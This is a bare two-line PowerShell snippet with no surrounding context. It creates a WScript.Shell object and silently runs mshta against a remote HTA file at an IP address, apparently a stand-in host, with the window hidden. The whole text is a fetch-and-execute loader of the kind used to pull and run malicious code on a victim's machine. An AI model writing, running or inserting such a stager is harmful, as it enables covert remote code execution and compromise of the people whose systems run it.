$shell = New-Object -ComObject WScript.Shell
$shell.Run('mshta http://203.0.113.9/a.hta', 0)
